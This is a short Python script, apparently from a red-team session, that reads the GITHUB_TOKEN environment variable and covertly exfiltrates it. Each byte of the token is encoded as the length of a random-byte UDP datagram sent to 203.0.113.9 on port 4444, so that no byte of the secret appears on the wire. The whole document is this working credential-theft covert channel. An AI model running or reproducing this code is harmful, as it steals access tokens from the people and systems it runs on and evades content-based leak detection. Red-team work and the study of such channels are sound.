# A secret from the environment in the sizes of UDP datagrams to one
# address (red team, session 22): a datagram of random bytes a byte of
# the secret, its size the byte's value; no byte of the secret is sent.
# A medium network finding before.
import os
import socket

s = os.environ["GITHUB_TOKEN"].encode()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for b in s:
    u.sendto(os.urandom(b), ("203.0.113.9", 4444))
print("sent", len(s))
